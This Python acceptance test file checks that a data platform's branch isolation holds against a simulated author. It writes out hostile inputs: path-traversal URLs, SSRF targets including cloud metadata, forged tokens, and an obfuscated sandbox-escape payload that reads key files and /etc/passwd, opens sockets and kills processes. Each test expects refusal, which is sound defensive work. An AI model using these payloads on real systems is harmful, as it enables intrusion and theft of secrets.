"""An author of one branch tries to reach the rows of another one, a secret, a file, or more rights.

The attempts begin from the promises of `docs/security.md` alone. The author has the role `author`
on the branch `attack`; `main` belongs to others.
"""

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import httpx
import pandas as pd
import pytest

from narthex.cli.projects.author_files import load_file
from narthex.client import Client
from narthex.errors import DefinitionErrors, NarthexError, Refused
from tests.acceptance.conftest import Market
from tests.acceptance.platform import COMMIT_S, Platform, order

pytestmark = [pytest.mark.stack, pytest.mark.acceptance]

BRANCH = "attack"
SECRET = "s3cret-of-the-market-5519"
USER = "user-of-main-8317"
ENDS = "2026-03-09T12:00:00Z"
REFUSED = {400, 401, 403, 404, 405, 409, 422}

HEAD = """
from datetime import datetime
import operator
import pandas as pd
from narthex.connectors import CSV, Files, HTTP, Kafka, Postgres, Secret, Webhook, sink, source
from narthex.datasets import dataset, field, pipeline
from narthex.expr import col
from narthex.featuresets import extractor, featureset
from narthex.lib import inputs, outputs

__owner__ = "mallory@example.org"

broker = Kafka("market", "", "PLAINTEXT", "PLAIN")
files = Files(name="files")
own = Webhook(name="own")
"""
STOLEN = """
@source({place}, disorder="1d", cdc="append")
@dataset
class Stolen:
    user: str
    ordered_at: datetime
"""
SENT = """
@source(own.endpoint("rows"), disorder="1d", cdc="append")
@dataset
class Own:
    user: str
    ordered_at: datetime


@sink({place}, cdc="debezium")
@dataset
class Sent:
    user: str
    ordered_at: datetime

    @pipeline
    @inputs(Own)
    def all_of_them(cls, own):
        return own.filter(col("user") != "")
"""


@attrs.frozen(kw_only=True)
class Attacker:
    """The author, with all that an author can know of the installation.

    Attributes:
        commit_id: A commit of `main`, known from a screenshot.
        request_id: An offline query of `main`, likewise.
        topic: The physical name of a topic of `main`.
    """

    platform: Platform
    token: str
    client: Client
    directory: Path
    commit_id: str
    request_id: str
    topic: str

    def call(self, method: str, path: str, body: object = None, *, branch: str = "main") -> str:
        """Call a route; return the status and the answer."""
        answer = httpx.request(
            method,
            f"{self.platform.settings.server_url}/{path}",
            json=body,
            headers={
                "authorization": f"Bearer {self.token}",
                "x-narthex-branch": branch,
                "idempotency-key": f"{method} {path} {branch}"[:200],
            },
            timeout=60.0,
        )
        return f"{answer.status_code} {answer.text}"

    def commit(self, text: str) -> str:
        """Commit definitions on the own branch; return the refusal, or an empty text."""
        file = self.directory / f"definitions_{abs(hash(text))}.py"
        file.write_text(HEAD + text)
        try:
            found = load_file(file)
            if found.errors:
                return str(DefinitionErrors("refused", found.errors))
            self.client.commit(
                "an attempt", [*found.datasets], [*found.featuresets], timeout_s=COMMIT_S
            )
        except (NarthexError, DefinitionErrors) as refused:
            return str(refused)
        return ""


@pytest.fixture(scope="module")
def attacker(market: Market, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacker]:
    platform = market.platform
    owner = platform.client
    platform.log("orders", [order(USER, "2026-03-08T08:00:00Z")])
    platform.settle()
    owner_headers = {"authorization": f"Bearer {platform.settings.token}"}
    secret = f"{platform.settings.server_url}/api/v1/secret/market"
    assert httpx.post(
        secret, json={"value": SECRET}, headers=owner_headers, timeout=60.0
    ).is_success
    spine = pd.DataFrame({"Buyer.user": [USER], "at": [ENDS]})
    request_id = owner.start_offline_query(["Buyer.user"], ["Buyer.orders_ever"], "at", spine)
    token = owner.create_token("mallory", ["author"], [BRANCH, "attack-*"])
    made = str(token.body["token"])
    client = Client(platform.settings.server_url, made, BRANCH)
    client.init_branch(BRANCH)
    yield Attacker(
        platform=platform,
        token=made,
        client=client,
        directory=tmp_path_factory.mktemp("attack"),
        commit_id=market.commit_id,
        request_id=request_id,
        topic=platform.topic("dataset/Sales/log"),
    )
    client.close()
    assert httpx.delete(secret, headers=owner_headers, timeout=60.0).is_success


def canaries(platform: Platform) -> dict[str, str]:
    """Return what no answer may have, by a name that may be shown."""
    settings = platform.settings
    return {
        "a row of main": USER,
        "a secret": SECRET,
        "the owner's token": settings.token,
        "the address of the ledger": settings.ledger_dsn,
        "Airflow's password": settings.airflow_password,
        "the key of secrets": settings.secrets_key.read_bytes().hex(),
        "the signing key": settings.signing_key.read_bytes().hex(),
    }


def require_nothing_seen(attacker: Attacker, said: str) -> None:
    assert [name for name, text in canaries(attacker.platform).items() if text in said] == []


ON_MAIN: dict[str, tuple[str, str, object]] = {
    "ask for features": (
        "POST",
        "api/v1/query",
        {"inputs": ["Buyer.user"], "outputs": ["Buyer.items"], "data": {"Buyer.user": [USER]}},
    ),
    "look rows up": (
        "POST",
        "api/v1/dataset/Spend/lookup",
        {"keys": [{"user": USER}], "fields": ["items"]},
    ),
    "inspect the newest rows": ("GET", "api/v1/dataset/Orders/inspect", None),
    "list datasets": ("GET", "api/v1/datasets", None),
    "read lineage": ("GET", "api/v1/lineage", None),
    "search": ("GET", "api/v1/search?q=Spend", None),
    "list assets": ("GET", "api/v1/assets", None),
    "list commits": ("GET", "api/v1/commits", None),
    "read a commit by its id": ("GET", "api/v1/commits/{commit_id}", None),
    "read the plan of a commit": ("GET", "api/v1/commits/{commit_id}/plan", None),
    "cancel a commit": ("POST", "api/v1/commits/{commit_id}/cancel", None),
    "approve a commit": ("POST", "api/v1/commits/{commit_id}/approve", {}),
    "take a step of a commit": ("POST", "api/v1/commits/{commit_id}/steps/promote", {}),
    "roll back": ("POST", "api/v1/rollback", {}),
    "delete the branch": ("POST", "api/v1/delete", {}),
    "unprotect the branch": ("POST", "api/v1/branch/protect", {"protected": False}),
    "ask offline": (
        "POST",
        "api/v1/query_offline",
        {"inputs": ["Buyer.user"], "outputs": ["Buyer.items"], "timestamp_column": "at"},
    ),
    "read answers of another's offline query": (
        "GET",
        "api/v1/query_offline/answers?request_id={request_id}",
        None,
    ),
    "cancel another's offline query": (
        "POST",
        "api/v1/query_offline/cancel?request_id={request_id}",
        None,
    ),
    "read quarantined rows": ("GET", "api/v1/datasets/Orders/quarantine", None),
    "read late rows": ("GET", "api/v1/datasets/Orders/late", None),
    "erase rows": ("POST", "api/v1/dataset/Users/erase", {"keys": [{"user": USER}]}),
    "compare with another branch": (
        "POST",
        "api/v1/diff",
        {"left": "main", "right": BRANCH, "dataset": "Spend"},
    ),
}


@pytest.mark.parametrize("name", ON_MAIN)
def test_no_route_answers_for_another_branch(attacker: Attacker, name: str) -> None:
    method, path, body = ON_MAIN[name]
    path = path.format(commit_id=attacker.commit_id, request_id=attacker.request_id)

    own = () if name == "delete the branch" else (BRANCH,)
    for branch in ("main", *own, "attack-2", "*", "main,attack"):
        said = attacker.call(method, path, body, branch=branch)
        require_nothing_seen(attacker, said)
        if branch == "main":
            assert int(said.split()[0]) in REFUSED, said


ADMINISTRATION: dict[str, tuple[str, str, object]] = {
    "make an owner's token": (
        "POST",
        "api/v1/tokens",
        {"name": "more", "scopes": ["admin"], "branches": ["*"], "tags": ["*"], "days": 1},
    ),
    "list tokens": ("GET", "api/v1/tokens", None),
    "read a secret": ("GET", "api/v1/secret/market", None),
    "replace a secret": ("PATCH", "api/v1/secret/market", {"value": "x"}),
    "read the control log": ("GET", "api/v1/control-log", None),
    "silence alerts": ("POST", "api/v1/alerts/silences", {"rule": "*", "hours": 1}),
    "collect garbage": ("POST", "api/v1/upkeep/collect", {}),
    "test a connection": ("POST", "api/v1/connections/x/test", {}),
    "read a file beside the API": ("GET", "api/v1/..%2f..%2fservices.json", None),
    "read a file beside the pages": ("GET", "console/static/..%2f..%2f..%2fservices.json", None),
    "read a file by its whole path": ("GET", "console/static/%2fetc%2fpasswd", None),
}


@pytest.mark.parametrize("name", ADMINISTRATION)
def test_no_route_grants_more_than_the_token_has(attacker: Attacker, name: str) -> None:
    method, path, body = ADMINISTRATION[name]

    said = attacker.call(method, path, body, branch=BRANCH)

    assert int(said.split()[0]) in REFUSED, said
    require_nothing_seen(attacker, said)


def definitions(attacker: Attacker) -> dict[str, tuple[str, str]]:
    """Return definitions that reach for what is not the author's, each with the error to expect."""
    home = attacker.platform.settings.home
    csv = "format=CSV()"
    postgres = (
        "Postgres(name='p', host='{}', port=5432, db_name='d', username=Secret('market'),"
        " password=Secret('market')).table('t', cursor='c')"
    )
    http = "HTTP(name='h', host='http://{}', healthz='/').path('x')"
    places = {
        "a file by its whole path": (f"files.path('{home}/services.json', {csv})", "NX506"),
        "a file above the root": (f"files.path('../{home.name}/services.json', {csv})", "NX506"),
        "a pattern above the root": (f"files.path('*/../../*/services.json', {csv})", "NX506"),
        "the endpoint of others": (
            "Webhook(name='market').endpoint('orders')",
            "belongs to a branch that this token may not name",
        ),
        "an internal topic": (f"broker.topic('{attacker.topic}')", "NX506"),
        "a pattern of topics": ("broker.topic('^nx.*')", "NX506"),
        "a secret at one's own host": (postgres.format("db.mallory.example"), "NX509"),
        "the ledger's own database": (postgres.format("127.0.0.1"), "NX508"),
    }
    sinks = {
        "rows into an internal topic": (f"broker.topic('{attacker.topic}')", "NX506"),
        "rows into others' topic": ("broker.topic('market.orders')", "NX507"),
        "rows to the server itself": (http.format("127.0.0.1:80"), "NX508"),
        "the metadata of a cloud": (http.format("169.254.169.254"), "NX508"),
    }
    return {
        **{name: (STOLEN.format(place=place), code) for name, (place, code) in places.items()},
        **{name: (SENT.format(place=place), code) for name, (place, code) in sinks.items()},
    }


def test_no_definitions_reach_what_is_not_the_authors(attacker: Attacker) -> None:
    wrong: list[str] = []
    for name, (text, code) in definitions(attacker).items():
        refusal = attacker.commit(text)
        require_nothing_seen(attacker, refusal)
        if code not in refusal:
            wrong.append(f"{name}: {refusal or 'accepted'}")

    assert wrong == []


PLAIN_CODE = """
@featureset
class Plain:
    id: int
    said: str

    @extractor
    @inputs("id")
    @outputs("said")
    def for_a_file(cls, ts: pd.Series, ids: pd.Series) -> pd.Series:
        return pd.Series([open("/etc/passwd").read() for _ in ids])
"""
HIDDEN_CODE = """
def _machine():
    return operator.attrgetter("o" + "s")(pd.io.common)


def _import(name):
    return operator.attrgetter("compat._optional.import" + "lib.import_module")(pd)(name)


def _try(wanted):
    try:
        return f"REACHED {{wanted()}}"
    except BaseException as error:
        return f"refused: {{type(error).__name__}}: {{error}}"


def _read(path):
    with operator.attrgetter("cod" + "ecs.op" + "en")(pd.io.common)(path, "rb") as file:
        content = file.read()
    return content.decode("latin-1") + content.hex()


def _connect(port):
    with _import("socket").create_connection(("127.0.0.1", port), timeout=5.0):
        return "connected"


@featureset
class Reach:
    id: int
    said: list[str]

    @extractor
    @inputs("id")
    @outputs("said")
    def for_everything(cls, ts: pd.Series, ids: pd.Series) -> pd.Series:
        said = [
            *(_try(lambda path=path: _read(path)) for path in {paths!r}),
            *(_try(lambda port=port: _connect(port)) for port in {ports!r}),
            _try(lambda: _machine().kill(_machine().getppid(), 9)),
            _try(lambda: _machine().fork()),
            _try(lambda: _machine().listdir("/proc")),
            _try(lambda: _import("subprocess").run(["/bin/true"])),
            f"environment: {{sorted(_machine().environ.items())}}",
        ]
        pd.Series.map = pd.Series.astype = lambda *given, **named: pd.Series(["stolen"])
        return pd.Series([said] * len(ids))
"""


def answers_of_main(platform: Platform) -> dict[str, Any]:
    return platform.ask(["Buyer"], as_of=ENDS, user=USER)


def test_code_reaches_no_file_no_port_and_no_other_branch(attacker: Attacker) -> None:
    platform = attacker.platform
    settings = platform.settings
    before = answers_of_main(platform)
    paths = [
        str(path)
        for path in (
            settings.home / "services.json",
            settings.signing_key,
            settings.secrets_key,
            settings.index_dir,
            Path("/etc/passwd"),
            Path("/proc/1/environ"),
            Path("/proc/self/mem"),
        )
    ]
    urls = (settings.server_url, settings.airflow_url, f"http://{settings.kafka}")
    ports = [httpx.URL(url).port for url in urls]
    assert "`open`, which reaches a file" in attacker.commit(PLAIN_CODE)
    assert attacker.commit(HIDDEN_CODE.format(paths=paths, ports=ports)) == ""

    for _ in range(3):
        answers, _ = attacker.client.query_columns(["Reach.id"], ["Reach.said"], {"Reach.id": [1]})
        [said] = answers["Reach.said"]
        assert isinstance(said, list)
        assert [one for one in said if str(one).startswith("REACHED")] == []
        require_nothing_seen(attacker, str(said))
        assert answers_of_main(platform) == before


def test_rows_cannot_be_pushed_for_another_branch(attacker: Attacker) -> None:
    row = order(USER, "2026-03-08T09:00:00Z")
    for branch in ("main", BRANCH):
        client = Client(attacker.platform.settings.server_url, attacker.token, branch)
        with pytest.raises(Refused):
            client.log("market", "orders", pd.DataFrame([row]))
        client.close()

    attacker.platform.settle()
    assert answers_of_main(attacker.platform)["orders_ever"] == 1


@pytest.mark.parametrize(
    ("wanted", "source"),
    [("attack-2", "main"), ("main", BRANCH), ("attack-3", "residents")],
)
def test_no_branch_is_cloned_from_another_ones(
    attacker: Attacker, wanted: str, source: str
) -> None:
    said = attacker.call("POST", "api/v1/init", {"clone_from": source}, branch=wanted)

    assert int(said.split()[0]) in REFUSED, said
    assert wanted not in attacker.client.list_branches()


def forged(token: str) -> Iterator[str]:
    """Yield tokens that are like the author's: others' ids, and other bytes."""
    head, _, tail = token.rpartition("_")
    yield f"{head}_{tail[::-1]}"
    yield token[:-1] + ("0" if token[-1] != "0" else "1")
    yield token.upper()
    yield f"{token} "[:-2]


def test_tokens_and_sessions_are_not_forged(attacker: Attacker) -> None:
    url = f"{attacker.platform.settings.server_url}/api/v1/commits"
    calls: list[Callable[[], httpx.Response]] = [
        *(
            lambda token=token: httpx.get(
                url, headers={"authorization": f"Bearer {token}"}, timeout=60.0
            )
            for token in forged(attacker.token)
        ),
        lambda: httpx.get(url, timeout=60.0),
        lambda: httpx.get(url, cookies={"narthex_session": attacker.token}, timeout=60.0),
        lambda: httpx.get(url, params={"token": attacker.token}, timeout=60.0),
    ]

    assert {call().status_code for call in calls} == {401}
